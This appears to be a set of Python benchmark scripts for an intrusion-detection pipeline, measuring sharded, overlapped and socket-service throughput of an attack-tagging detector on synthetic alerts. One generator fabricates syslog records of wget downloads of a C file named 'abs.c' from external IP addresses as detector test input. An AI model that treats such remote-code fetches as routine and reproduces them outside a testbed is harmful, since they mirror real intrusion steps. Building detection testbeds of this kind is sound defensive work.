        "channel_capacity_bytes": capacity,
        "max_payload_bytes": max(
            (max(row) for row in reference["payload_bytes"]), default=0
        ),
        "sync_projected_seconds": round(sync_projected, 3),
        "configurations": {},
    }
    out["configurations"]["pickle_inflight1"] = summarise(
        reference, reference, sync_projected, capacity
    )
    runs = {("pickle", 1): reference}
    for transport, max_inflight in configurations:
        run = run_driver(
            batches,
            n_shards=n_shards,
            transport=transport,
            max_inflight=max_inflight,
        )
        assert_equivalent(reference, run)
        runs[(transport, max_inflight)] = run
        out["configurations"][f"{transport}_inflight{max_inflight}"] = summarise(
            run, reference, sync_projected, capacity
        )
    # The headline transport comparison: at the same depth, how much
    # cheaper is shipping a batch over shm than over the pickle pipe?
    for (transport, depth), run in runs.items():
        if transport != "shm" or ("pickle", depth) not in runs:
            continue
        pickle_overhead = runs[("pickle", depth)]["overhead_seconds"]
        shm_overhead = run["overhead_seconds"]
        mean_shm = sum(shm_overhead) / max(1, len(shm_overhead))
        if mean_shm > 0:
            out["configurations"][f"shm_inflight{depth}"][
                "overhead_reduction_vs_pickle"
            ] = round(
                (sum(pickle_overhead) / max(1, len(pickle_overhead))) / mean_shm,
                2,
            )
    return out


#: The (transport, max_inflight) axis recorded at 4 shards.  The
#: pickle depths document the pipe transport's backpressure collapse
#: (their overhead_seconds absorb the channel stalls); the shm depths
#: show the ring transport sustaining the same window.
FULL_AXIS = [
    ("pickle", 2),
    ("pickle", 4),
    ("shm", 1),
    ("shm", 2),
    ("shm", 4),
]


def run_benchmark(*, n_batches: int = 32, records_per_batch: int = 8000) -> dict:
    batches = build_raw_batches(
        n_batches=n_batches, records_per_batch=records_per_batch
    )
    return {
        "benchmark": "pipeline_overlap_throughput",
        "units": "seconds_end_to_end",
        "notes": (
            "Deep-pipelined drivers (transport x max_inflight axes) vs "
            "the batch-synchronous pickle reference over bursty "
            "shard-aligned raw syslog batches, process shard backend.  "
            "wall_* is bounded by cores_available (single-core hosts "
            "time-slice parent and workers; wall speedup ~1x by "
            "construction); projected_* replays each run's measured "
            "per-batch submit CPU, per-shard worker CPU, payload "
            "bytes, and the measured control-channel capacity through "
            "a discrete-event simulation of its depth-d schedule "
            "(one core per shard plus a parent core).  "
            "overhead_seconds = submit CPU + channel stall: the pickle "
            "transport's deep windows stall the parent once a "
            "same-shard burst overfills the socket buffers, the shm "
            "ring's 24-byte descriptors never do -- that, not raw "
            "serialisation CPU (where C pickle beats the flat codec), "
            "is the transport's win, and overhead_reduction_vs_pickle "
            "compares the two at the same depth.  projected_speedup "
            "is a same-host ratio and needs no hardware calibration."
        ),
        "cores_available": len(os.sched_getaffinity(0))
        if hasattr(os, "sched_getaffinity")
        else os.cpu_count(),
        "stream": {
            "n_batches": n_batches,
            "records_per_batch": records_per_batch,
            "segment_cluster": SEGMENT_CLUSTER,
            "block_batches": BLOCK_BATCHES,
            "max_window": MAX_WINDOW,
        },
        "shards_2": measure_axis(batches, n_shards=2, configurations=[("shm", 4)]),
        "shards_4": measure_axis(batches, n_shards=4, configurations=FULL_AXIS),
    }


#: The absolute CI floor for the projected speedup of the
#: deep-pipelined shm driver (4 process shards, ``max_inflight=4``)
#: over the batch-synchronous pickle reference.
SPEEDUP_FLOOR = 2.5


def check_regression(baseline_path: Path) -> int:
    """CI gate: equivalence + projected shm@depth-4 speedup at 4 shards.

    The projection is a same-host time ratio, so no hardware
    calibration is needed; the floor is absolute (the acceptance bar
    for the zero-copy transport's deep pipelining).
    """
    if not baseline_path.exists():
        print(f"FAIL: no committed baseline at {baseline_path}; "
              "run this script without --check to record one")
        return 1
    committed = json.loads(baseline_path.read_text())
    committed_speedup = committed["shards_4"]["configurations"]["shm_inflight4"][
        "projected_speedup"
    ]

    # Same stream shape as the recorded baseline at half the records
    # per batch: the shm projection is payload-size-independent (the
    # descriptors never stall), so the gate halves its runtime without
    # changing the schedule it measures.
    capacity = channel_capacity_bytes()
    batches = build_raw_batches(n_batches=32, records_per_batch=4000)
    reference = run_driver(batches, n_shards=4, transport="pickle", max_inflight=1)
    sync_projected = simulate_schedule(
        reference, depth=1, channel_capacity=capacity
    )["makespan"]
    run = run_driver(batches, n_shards=4, transport="shm", max_inflight=4)
    assert_equivalent(reference, run)
    projected = simulate_schedule(
        run, reference=reference, channel_capacity=capacity
    )["makespan"]
    speedup = sync_projected / projected

    print(f"detections bit-identical (shm@4 vs pickle sync): True "
          f"({len(run['detections'])} detections)")
    print(f"shm fast-path batches:  {run['shm_batches']} "
          f"(fallbacks {run['shm_fallbacks']})")
    print(f"sync projected:         {sync_projected:.3f} s")
    print(f"shm@depth-4 projected:  {projected:.3f} s")
    print(f"projected speedup:      {speedup:.2f}x "
          f"(floor {SPEEDUP_FLOOR:.2f}x, committed {committed_speedup:.2f}x)")
    print(f"wall speedup:           "
          f"{reference['wall_seconds'] / run['wall_seconds']:.2f}x "
          f"(single-core hosts: ~1x by construction)")

    if run["shm_batches"] == 0:
        print("FAIL: the shm fast path was never exercised")
        return 1
    if speedup < SPEEDUP_FLOOR:
        print(f"FAIL: projected speedup fell below {SPEEDUP_FLOOR:.2f}x")
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_overlap_equivalence_smoke(benchmark):
    """Smoke: the deep shm driver matches batch-sync on a small stream."""
    batches = build_raw_batches(n_batches=4, records_per_batch=300, cluster=1)

    def _run():
        reference = run_driver(
            batches, n_shards=2, transport="pickle", max_inflight=1
        )
        run = run_driver(batches, n_shards=2, transport="shm", max_inflight=2)
        assert_equivalent(reference, run)
        return reference, run

    reference, run = benchmark.pedantic(_run, rounds=1, iterations=1)
    # The depth-2 schedule can only help the projection, never hurt.
    capacity = channel_capacity_bytes()
    deep = simulate_schedule(
        run, reference=reference, channel_capacity=capacity
    )["makespan"]
    sync = simulate_schedule(
        reference, depth=1, channel_capacity=capacity
    )["makespan"]
    assert deep <= sync + 1e-9


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_overlap.json",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
