"""End-to-end overlapped vs batch-synchronous pipeline throughput.

The pipeline's overlapped driver
(:meth:`repro.testbed.pipeline.TestbedPipeline.ingest_raw_stream`)
double-buffers batches: while the detection stage's process-backed
shard workers chew batch N, the parent thread already normalises and
filters batch N+1 (non-blocking ``submit_batch``/``collect`` fan-out,
see :mod:`repro.testbed.sharding`).  Per stream, the normalize/filter
latency is then paid once instead of once per batch -- the parent's
prep work hides behind worker compute.

This benchmark drives the same raw syslog-record batches through both
drivers at ``n_shards ∈ {2, 4}`` process shards and records:

* ``wall_seconds`` of both drivers.  Wall time is bounded by the
  *cores available to this container*: on a single-core host parent
  prep and worker compute time-slice, so the wall speedup is ~1x by
  construction (recorded next to ``cores_available`` so the regimes
  are never conflated -- the same convention as ``BENCH_sharding``).
* A **pipeline-schedule projection** of both drivers from the same
  per-batch measurements (prep/respond stage walls, fan-out overhead,
  and the slowest shard's reported CPU time per batch), i.e. their
  end-to-end time once one core per shard plus one parent core are
  available::

      sync    = Σ_i ( prep_i + overhead_i + max_busy_i + respond_i )
      overlap = prep_1 + Σ_i ( overhead_i + max(max_busy_i, prep_{i+1})
                               + respond_i )

  The overlapped schedule interleaves ``submit(i); prep(i+1);
  collect(i); respond(i)``, so batch i's worker compute
  (``max_busy_i``) and the parent's prep of batch i+1 overlap; the
  fan-out overhead (partitioning, columnar pickling both ways,
  merging) and the response stage stay on the parent's critical path.
  The headline ``projected_speedup`` is ``sync / overlap`` -- a ratio
  of times measured on the same host, so it needs no hardware
  calibration.

The two drivers are asserted bit-identical (detections and counters)
before anything is recorded.

Run as a script to (re)record ``BENCH_overlap.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_pipeline_overlap.py

CI runs the regression gate, which re-measures a quick version, checks
the overlapped driver still produces bit-identical results, and
requires the projected overlap speedup at 4 process shards to stay
above the floor::

    PYTHONPATH=src python benchmarks/bench_pipeline_overlap.py --check
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_overlap.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.incidents import DEFAULT_CATALOGUE
from repro.telemetry import SyslogMonitor
from repro.testbed import TestbedPipeline

#: Counter keys that must match exactly between the two drivers.
COUNTER_KEYS = (
    "raw_records",
    "normalized_alerts",
    "filtered_alerts",
    "detections",
    "responses",
)

#: Bench detector window (same reasoning as ``bench_sharded_pipeline``:
#: small enough that sustained traffic slides it).
MAX_WINDOW = 32


def build_raw_batches(
    *, n_batches: int, records_per_batch: int, n_users: int = 199
) -> list[list]:
    """Time-ordered syslog batches of successful logins and downloads.

    Every record carries a distinct source IP so the scan filter's
    dedup keeps (nearly) all of them -- the detection stage sees the
    full stream and both parent prep and worker compute carry real
    per-record cost.  The mix stays benign: measured runs must not
    diverge on response work.
    """
    monitor = SyslogMonitor("internal-host")
    step = 0
    for _ in range(n_batches * records_per_batch):
        user = f"user{step % n_users:03d}"
        source_ip = f"10.{step % 251}.{step % 241}.{step % 239}"
        if step % 4 == 0:
            monitor.wget_download(
                float(step), user, f"http://64.215.{step % 200}.18/abs.c"
            )
        else:
            monitor.sshd_accepted(float(step), user, source_ip)
        step += 1
    records = monitor.records
    return [
        records[start : start + records_per_batch]
        for start in range(0, len(records), records_per_batch)
    ]


def make_pipeline(n_shards: int) -> TestbedPipeline:
    return TestbedPipeline(
        detectors={
            "factor_graph": AttackTagger(
                patterns=list(DEFAULT_CATALOGUE), max_window=MAX_WINDOW
            )
        },
        n_shards=n_shards,
        shard_backend="process",
    )


def run_batch_synchronous(batches: list[list], *, n_shards: int) -> dict:
    """Reference driver with per-batch stage instrumentation."""
    prep: list[float] = []
    overhead: list[float] = []
    max_busy: list[float] = []
    respond: list[float] = []
    with make_pipeline(n_shards) as pipeline:
        pool = pipeline.detector_pools["factor_graph"]
        started = time.perf_counter()
        for batch in batches:
            stage_before = dict(pipeline.stats.stage_seconds)
            busy_before = list(pool.busy_seconds)
            pipeline.ingest_raw(batch)
            stage_after = pipeline.stats.stage_seconds
            busy_delta = [
                after - before
                for after, before in zip(pool.busy_seconds, busy_before)
            ]
            detect_delta = stage_after.get("detect", 0.0) - stage_before.get(
                "detect", 0.0
            )
            prep.append(
                (stage_after.get("normalize", 0.0) - stage_before.get("normalize", 0.0))
                + (stage_after.get("filter", 0.0) - stage_before.get("filter", 0.0))
            )
            respond.append(
                stage_after.get("respond", 0.0) - stage_before.get("respond", 0.0)
            )
            overhead.append(max(0.0, detect_delta - sum(busy_delta)))
            max_busy.append(max(busy_delta))
        wall = time.perf_counter() - started
        return {
            "wall_seconds": wall,
            "prep_seconds": prep,
            "overhead_seconds": overhead,
            "max_busy_seconds": max_busy,
            "respond_seconds": respond,
            "detections": list(pipeline.detections),
            "counters": {
                key: pipeline.summary()[key] for key in COUNTER_KEYS
            },
        }


def run_overlapped(batches: list[list], *, n_shards: int) -> dict:
    """The overlapped driver, measured end to end."""
    with make_pipeline(n_shards) as pipeline:
        started = time.perf_counter()
        pipeline.ingest_raw_stream(batches)
        wall = time.perf_counter() - started
        return {
            "wall_seconds": wall,
            "detections": list(pipeline.detections),
            "counters": {
                key: pipeline.summary()[key] for key in COUNTER_KEYS
            },
        }


def schedule_projections(sync: dict) -> tuple[float, float]:
    """(sync, overlap) end-to-end projections from per-batch timings."""
    prep = sync["prep_seconds"]
    overhead = sync["overhead_seconds"]
    max_busy = sync["max_busy_seconds"]
    respond = sync["respond_seconds"]
    n = len(prep)
    sync_projected = sum(prep) + sum(overhead) + sum(max_busy) + sum(respond)
    overlap_projected = prep[0] if n else 0.0
    for i in range(n):
        next_prep = prep[i + 1] if i + 1 < n else 0.0
        overlap_projected += overhead[i] + max(max_busy[i], next_prep) + respond[i]
    return sync_projected, overlap_projected


def measure_configuration(batches: list[list], *, n_shards: int) -> dict:
    """Both drivers at one shard count, with the equivalence check."""
    sync = run_batch_synchronous(batches, n_shards=n_shards)
    overlapped = run_overlapped(batches, n_shards=n_shards)
    assert overlapped["detections"] == sync["detections"], (
        "overlapped detections must be bit-identical to batch-synchronous"
    )
    assert overlapped["counters"] == sync["counters"], (
        "overlapped counters must match batch-synchronous"
    )
    sync_projected, overlap_projected = schedule_projections(sync)
    total_records = sum(len(batch) for batch in batches)
    return {
        "n_shards": n_shards,
        "records": total_records,
        "batches": len(batches),
        "detections": len(sync["detections"]),
        "sync_wall_seconds": round(sync["wall_seconds"], 3),
        "overlap_wall_seconds": round(overlapped["wall_seconds"], 3),
        "wall_speedup": round(sync["wall_seconds"] / overlapped["wall_seconds"], 2),
        "per_batch": {
            "prep_seconds": [round(v, 4) for v in sync["prep_seconds"]],
            "overhead_seconds": [round(v, 4) for v in sync["overhead_seconds"]],
            "max_busy_seconds": [round(v, 4) for v in sync["max_busy_seconds"]],
            "respond_seconds": [round(v, 4) for v in sync["respond_seconds"]],
        },
        "sync_projected_seconds": round(sync_projected, 3),
        "overlap_projected_seconds": round(overlap_projected, 3),
        "projected_records_per_second": round(total_records / overlap_projected, 1),
        "projected_speedup": round(sync_projected / overlap_projected, 2),
    }


def run_benchmark(*, n_batches: int = 8, records_per_batch: int = 800) -> dict:
    batches = build_raw_batches(
        n_batches=n_batches, records_per_batch=records_per_batch
    )
    return {
        "benchmark": "pipeline_overlap_throughput",
        "units": "seconds_end_to_end",
        "notes": (
            "Overlapped (double-buffered) driver vs batch-synchronous "
            "reference over raw syslog batches, process shard backend. "
            "wall_* is bounded by cores_available (single-core hosts "
            "time-slice parent prep and workers, wall speedup ~1x by "
            "construction); *_projected_* evaluates both drivers' "
            "schedules from the same per-batch stage timings and worker "
            "CPU reports, i.e. one core per shard plus a parent core. "
            "projected_speedup is a same-host ratio and needs no "
            "hardware calibration."
        ),
        "cores_available": len(os.sched_getaffinity(0))
        if hasattr(os, "sched_getaffinity")
        else os.cpu_count(),
        "stream": {
            "n_batches": n_batches,
            "records_per_batch": records_per_batch,
            "max_window": MAX_WINDOW,
        },
        "configurations": {
            "process_2shards": measure_configuration(batches, n_shards=2),
            "process_4shards": measure_configuration(batches, n_shards=4),
        },
    }


#: The absolute CI floor for the projected overlap speedup at 4
#: process shards.
SPEEDUP_FLOOR = 1.1

#: The check run may keep this fraction of the committed speedup (the
#: quick stream has a slightly different prep/compute balance and CI
#: hosts are noisy; a genuine overlap regression collapses the ratio
#: toward 1.0, far below this band).
COMMITTED_FRACTION = 0.7


def check_regression(baseline_path: Path) -> int:
    """CI gate: equivalence + projected overlap speedup at 4 shards.

    The speedup must clear both the absolute ``SPEEDUP_FLOOR`` and
    ``COMMITTED_FRACTION`` of the committed baseline's value -- the
    projection is a same-host time ratio, so no hardware calibration
    is needed.
    """
    if not baseline_path.exists():
        print(f"FAIL: no committed baseline at {baseline_path}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(baseline_path.read_text())
    committed = float(
        baseline["configurations"]["process_4shards"]["projected_speedup"]
    )
    floor = max(SPEEDUP_FLOOR, COMMITTED_FRACTION * committed)

    batches = build_raw_batches(n_batches=6, records_per_batch=500)
    # measure_configuration asserts bit-identical detections/counters.
    result = measure_configuration(batches, n_shards=4)
    speedup = result["projected_speedup"]

    print("detections bit-identical (overlapped vs sync): True")
    print(f"sync projected:      {result['sync_projected_seconds']:.3f} s")
    print(f"overlap projected:   {result['overlap_projected_seconds']:.3f} s")
    print(f"projected speedup:   {speedup:.2f}x "
          f"(floor {floor:.2f}x = max({SPEEDUP_FLOOR:.2f}, "
          f"{COMMITTED_FRACTION:.2f} * committed {committed:.2f}x))")
    print(f"wall speedup:        {result['wall_speedup']:.2f}x "
          f"(single-core hosts: ~1x by construction)")

    if speedup < floor:
        print(f"FAIL: projected overlap speedup fell below {floor:.2f}x")
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_overlap_equivalence_smoke(benchmark):
    """Smoke: overlapped driver matches batch-sync on a small stream."""
    batches = build_raw_batches(n_batches=4, records_per_batch=200)

    def _run():
        return measure_configuration(batches, n_shards=2)

    result = benchmark.pedantic(_run, rounds=1, iterations=1)
    # measure_configuration already asserted bit-identical results;
    # the schedule projection can only help, never hurt.
    assert result["overlap_projected_seconds"] <= result["sync_projected_seconds"] + 1e-9


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_overlap.json",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
