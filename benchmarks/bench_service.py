"""Sustained socket ingest throughput and latency of the service.

The always-on service adds a front-end on top of the pipeline: JSONL
framing, asyncio scheduling, admission bookkeeping, and the single
consumer that owns the pipeline.  This benchmark measures what that
front-end costs end to end: a client streams seed-pinned alert batches
over a real TCP connection as fast as acks come back, then drains, and
we record per backend/shard configuration:

* ``alerts_per_s`` -- sustained socket ingest throughput (client-side
  wall clock from first send to drain completion),
* ``p50_ms`` / ``p99_ms`` -- the server's own per-batch end-to-end
  latency percentiles (enqueue to detection collect, from the
  ``stats`` op's latency window),
* ``detections`` -- sanity that the workload actually detects.

Run as a script to (re)record ``BENCH_service.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_service.py

CI runs the regression gate, which re-measures the serial single-shard
configuration and fails on a >4x throughput regression against the
committed baseline::

    PYTHONPATH=src python benchmarks/bench_service.py --check
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger  # noqa: E402
from repro.core.alerts import Alert  # noqa: E402
from repro.incidents import DEFAULT_CATALOGUE  # noqa: E402
from repro.testbed import TestbedPipeline  # noqa: E402
from repro.service import ServiceConfig, start_service_in_thread  # noqa: E402

RESULT_PATH = REPO_ROOT / "BENCH_service.json"

BASE_SEED = 0
N_ENTITIES = 64
BATCH_SIZE = 50
N_BATCHES = 80

#: engine, n_shards, backend triples measured.
CONFIGS = (
    ("streaming", 1, "serial"),
    ("streaming", 4, "serial"),
    ("streaming", 4, "process"),
)
#: The configuration the --check gate re-measures.
CHECK_CONFIG = ("streaming", 1, "serial")

#: --check fails below this fraction of the committed alerts_per_s.
REGRESSION_FLOOR = 0.25


def _batches() -> list[list[Alert]]:
    rng = np.random.default_rng(BASE_SEED)
    patterns = list(DEFAULT_CATALOGUE)
    queues = {
        f"user:u{index:04d}": list(patterns[index % len(patterns)].names)
        for index in range(N_ENTITIES)
    }
    entities = list(queues)
    timestamp = 0.0
    batches: list[list[Alert]] = []
    for _ in range(N_BATCHES):
        batch: list[Alert] = []
        for _ in range(BATCH_SIZE):
            entity = entities[int(rng.integers(0, len(entities)))]
            queue = queues[entity]
            if not queue:
                queue.extend(patterns[int(rng.integers(0, len(patterns)))].names)
            timestamp += float(rng.uniform(0.01, 0.2))
            batch.append(Alert(timestamp, queue.pop(0), entity))
        batches.append(batch)
    return batches


def measure_config(engine: str, n_shards: int, backend: str) -> dict:
    batches = _batches()

    def factory() -> TestbedPipeline:
        return TestbedPipeline(
            detectors={
                "factor_graph": AttackTagger(
                    patterns=list(DEFAULT_CATALOGUE), engine=engine
                )
            },
            n_shards=n_shards,
            shard_backend=backend,
        )

    handle = start_service_in_thread(factory, ServiceConfig())
    try:
        with handle.client() as client:
            client.hello()
            started = time.perf_counter()
            for batch in batches:
                client.send_alerts(batch)
            client.drain()
            elapsed = time.perf_counter() - started
            stats = client.stats()
    finally:
        handle.stop()
    total_alerts = sum(len(batch) for batch in batches)
    e2e = stats["latency"]["e2e"]
    return {
        "engine": engine,
        "n_shards": n_shards,
        "backend": backend,
        "batches": len(batches),
        "alerts": total_alerts,
        "wall_seconds": round(elapsed, 4),
        "alerts_per_s": round(total_alerts / max(elapsed, 1e-9), 1),
        "p50_ms": round(e2e["p50"] * 1e3, 3),
        "p99_ms": round(e2e["p99"] * 1e3, 3),
        "max_ms": round(e2e["max"] * 1e3, 3),
        "detections": int(stats["detections_emitted"]),
    }


def record() -> dict:
    result = {
        "benchmark": "service_socket_ingest_throughput",
        "units": "alerts_per_second_and_latency_ms_per_config",
        "notes": (
            "A blocking JSONL client streams seed-pinned 50-alert batches "
            "over loopback TCP to the in-process DetectionService as fast "
            "as acks return, then drains; alerts_per_s is client wall "
            "clock over the whole stream, p50/p99 are the server's own "
            "per-batch enqueue-to-collect latency percentiles."
        ),
        "cores_available": len(os.sched_getaffinity(0)),
        "workload": {
            "base_seed": BASE_SEED,
            "entities": N_ENTITIES,
            "batch_size": BATCH_SIZE,
            "batches": N_BATCHES,
        },
        "measurements": [measure_config(*config) for config in CONFIGS],
    }
    RESULT_PATH.write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps(result, indent=2))
    return result


def check() -> int:
    if not RESULT_PATH.exists():
        print(f"missing baseline {RESULT_PATH}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(RESULT_PATH.read_text())
    committed = {
        (m["engine"], m["n_shards"], m["backend"]): m
        for m in baseline["measurements"]
    }
    if CHECK_CONFIG not in committed:
        print(f"FAIL: committed baseline has no config {CHECK_CONFIG}")
        return 1
    measurement = measure_config(*CHECK_CONFIG)
    print(json.dumps(measurement, indent=2))
    if measurement["detections"] <= 0:
        print("FAIL: workload produced no detections (vacuous measurement)")
        return 1
    reference_rate = committed[CHECK_CONFIG]["alerts_per_s"]
    floor = REGRESSION_FLOOR * reference_rate
    if measurement["alerts_per_s"] < floor:
        print(
            f"FAIL: socket ingest {measurement['alerts_per_s']:.1f} alerts/s "
            f"below regression floor {floor:.1f} alerts/s "
            f"({REGRESSION_FLOOR:.0%} of committed {reference_rate:.1f})"
        )
        return 1
    print(
        f"OK: {measurement['alerts_per_s']:.1f} alerts/s >= floor "
        f"{floor:.1f} alerts/s (p99 {measurement['p99_ms']:.2f} ms)"
    )
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_service.json",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check()
    record()
    return 0


if __name__ == "__main__":
    sys.exit(main())
