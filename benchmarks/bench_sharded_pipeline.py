"""Sharded detection-stage throughput: serial vs process-sharded pool.

The staged pipeline's detection layer is a
:class:`repro.testbed.sharding.ShardedDetectorPool`: alerts route by
``crc32(entity) % n_shards`` to independent ``AttackTagger`` replicas,
optionally one worker process per shard.  This benchmark measures what
that buys on the detection stage alone (the pipeline's dominant cost):
a multi-entity alert stream heavy enough to include window-eviction
rebuilds is pushed through a 1-shard serial pool (the unsharded
reference) and a 4-shard process pool.

Two throughput numbers are recorded for the process pool:

* ``wall_alerts_per_second`` -- end-to-end wall clock of
  ``observe_batch``.  This is bounded by the *cores available to this
  container*; on a single-core host the workers time-slice and the
  wall speedup is ~1x by construction.
* ``critical_path_alerts_per_second`` -- the stage's throughput once
  one core per shard is available: fan-out/merge overhead (everything
  that is not worker compute: partitioning, pickling both ways,
  merging) plus the *slowest shard's* CPU time.  Workers report their
  observe-loop CPU time (``time.process_time``), so
  ``overhead = wall - sum(busy)`` and
  ``critical_path = overhead + max(busy)``.  This is the Amdahl
  projection of the same run -- conservative, because on a multi-core
  host the per-shard sends/receives overlap with compute instead of
  serialising after it.

The headline ``speedup_4_process_shards_vs_1`` compares the process
pool's critical-path throughput against the serial 1-shard wall
throughput; ``wall_speedup_4_process_shards_vs_1`` is recorded next to
it together with ``cores_available`` so the two regimes are never
conflated.

Run as a script to (re)record ``BENCH_sharding.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_sharded_pipeline.py

CI runs the regression gate, which re-measures a quick version, checks
the sharded pool still produces bit-identical detections, requires the
critical-path speedup to stay >= 2x, and fails if serial detection
throughput regressed more than 2x against the committed baseline
(hardware-scaled via a naive-engine calibration run, which this
refactor never touches)::

    PYTHONPATH=src python benchmarks/bench_sharded_pipeline.py --check
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_sharding.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.core.alerts import Alert, DEFAULT_VOCABULARY
from repro.core.states import AttackStage
from repro.incidents import DEFAULT_CATALOGUE
from repro.testbed import ShardedDetectorPool

#: Alert names that keep every entity undetected, so `observe` never
#: short-circuits on `track.detected` and each alert pays full
#: inference cost (the worst case the stage must sustain).
BENIGN_NAMES = [
    spec.name
    for spec in DEFAULT_VOCABULARY
    if spec.stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE)
]

#: Bench detector window: small enough that each entity's stream slides
#: the window (the expensive rebuild path the production pipeline hits
#: under sustained traffic), so compute dominates fan-out overhead.
MAX_WINDOW = 32


def build_stream(*, n_entities: int, per_entity: int, seed: int = 7) -> list[Alert]:
    """Round-robin multi-entity benign-heavy stream (time-sorted)."""
    rng = np.random.default_rng(seed)
    alerts: list[Alert] = []
    step = 0
    for _ in range(per_entity):
        for index in range(n_entities):
            name = BENIGN_NAMES[int(rng.integers(0, len(BENIGN_NAMES)))]
            alerts.append(Alert(float(step), name, f"host:bench-e{index:04d}"))
            step += 1
    return alerts


def make_pool(n_shards: int, backend: str) -> ShardedDetectorPool:
    """A pool of fresh bench-configured ``AttackTagger`` shards."""
    template = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=MAX_WINDOW
    )
    return ShardedDetectorPool.from_template(
        template, n_shards=n_shards, backend=backend
    )


def measure_pool(stream: list[Alert], *, n_shards: int, backend: str) -> dict:
    """Detection-stage-only measurement of one pool configuration."""
    with make_pool(n_shards, backend) as pool:
        started = time.perf_counter()
        detections = pool.observe_batch(stream)
        wall = time.perf_counter() - started
        busy = list(pool.busy_seconds)
    overhead = max(0.0, wall - sum(busy))
    critical_path = overhead + max(busy)
    return {
        "n_shards": n_shards,
        "backend": backend,
        "alerts": len(stream),
        "detections": len(detections),
        "wall_seconds": round(wall, 3),
        "wall_alerts_per_second": round(len(stream) / wall, 1),
        "shard_busy_seconds": [round(seconds, 3) for seconds in busy],
        "max_shard_busy_seconds": round(max(busy), 3),
        "overhead_seconds": round(overhead, 3),
        "critical_path_seconds": round(critical_path, 3),
        "critical_path_alerts_per_second": round(len(stream) / critical_path, 1),
        "_detections": detections,
    }


#: Short naive-engine run used to calibrate how fast the current host is
#: relative to the machine that recorded the committed baseline.  The
#: naive path is seed code this refactor never touches, so its rate
#: moves with the hardware, not with the change under test.
CALIBRATION_ALERTS = 150


def measure_calibration_rate() -> float:
    """Naive-engine alerts/sec on a fixed single-entity stream."""
    rng = np.random.default_rng(11)
    stream = [
        Alert(float(i), BENIGN_NAMES[int(rng.integers(0, len(BENIGN_NAMES)))], "host:calib")
        for i in range(CALIBRATION_ALERTS)
    ]
    tagger = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE),
        max_window=CALIBRATION_ALERTS + 1,
        engine="naive",
    )
    started = time.perf_counter()
    for alert in stream:
        tagger.observe(alert)
    return CALIBRATION_ALERTS / (time.perf_counter() - started)


def run_benchmark(*, n_entities: int = 256, per_entity: int = 40) -> dict:
    """Full measurement set behind ``BENCH_sharding.json``."""
    stream = build_stream(n_entities=n_entities, per_entity=per_entity)
    serial_1 = measure_pool(stream, n_shards=1, backend="serial")
    assert serial_1["detections"] == 0, "benchmark stream must stay undetected"
    serial_4 = measure_pool(stream, n_shards=4, backend="serial")
    process_4 = measure_pool(stream, n_shards=4, backend="process")
    assert process_4.pop("_detections") == serial_1.pop("_detections"), (
        "process-sharded detections must be bit-identical to serial"
    )
    serial_4.pop("_detections")
    serial_rate = serial_1["wall_alerts_per_second"]
    return {
        "benchmark": "sharded_pipeline_throughput",
        "units": "alerts_per_second",
        "notes": (
            "Detection-stage-only measurement (ShardedDetectorPool.observe_batch) "
            "on a multi-entity stream with window-eviction rebuilds. "
            "wall_* is bounded by cores_available (1-core hosts time-slice the "
            "workers); critical_path_* is overhead + slowest shard's CPU time, "
            "the stage's throughput once one core per shard is available."
        ),
        "cores_available": len(os.sched_getaffinity(0))
        if hasattr(os, "sched_getaffinity")
        else os.cpu_count(),
        "stream": {
            "alerts": len(stream),
            "entities": n_entities,
            "per_entity": per_entity,
            "max_window": MAX_WINDOW,
        },
        "detection_stage": {
            "serial_1shard": serial_1,
            "serial_4shards": serial_4,
            "process_4shards": process_4,
        },
        "speedup_4_process_shards_vs_1": round(
            process_4["critical_path_alerts_per_second"] / serial_rate, 2
        ),
        "wall_speedup_4_process_shards_vs_1": round(
            process_4["wall_alerts_per_second"] / serial_rate, 2
        ),
        "calibration": {
            "alerts": CALIBRATION_ALERTS,
            "naive_alerts_per_second": round(measure_calibration_rate(), 1),
        },
    }


